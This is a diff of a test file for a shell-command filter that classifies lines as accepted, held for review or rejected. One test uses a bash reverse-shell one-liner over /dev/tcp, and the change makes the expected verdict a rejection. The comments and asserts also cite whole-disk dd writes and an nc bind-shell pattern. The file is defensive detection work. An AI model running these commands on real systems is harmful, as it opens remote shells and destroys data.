@@ -128,7 +128,7 @@ def test_regex_still_decides_when_bashlex_fails(builtin: CommandFilter) -> None:
     line = "[[ -x /bin/bash ]] && bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"
     assert builtin.parse(line).parser == "fallback"
     verdict = builtin.check(line, user="alice")
-    assert (verdict.action, verdict.group) == ("review", "reverse-shell")
+    assert (verdict.action, verdict.group) == ("reject", "reverse-shell")
 
 
 def test_unclosed_quote_and_huge_line_do_not_crash(builtin: CommandFilter) -> None:
@@ -323,6 +323,8 @@ def test_corpus_recall_and_false_positives(builtin: CommandFilter) -> None:
     flagged = [v for v in verdicts if v.action != "accept"]
     rejected = [ln for ln, v in zip(benign, verdicts, strict=True) if v.action == "reject"]
     assert len(flagged) <= 70  # measured 58 of 12,607 (0.46%)
-    # Measured: 4, each a real write to a whole disk (`... | dd of=/dev/sdb`): truly destructive.
+    # Measured: 5. Four are real writes to a whole disk (`... | dd of=/dev/sdb`): truly destructive. One is a toy
+    # web server on `nc -l -c '...'`, which runs a command for anyone who connects: a bind shell by shape.
     assert len(rejected) <= 6
-    assert all("of=/dev/sd" in ln for ln in rejected), rejected
+    assert all("of=/dev/sd" in ln or "nc -l" in ln for ln in rejected), rejected
+    assert sum("nc -l" in ln for ln in rejected) <= 1
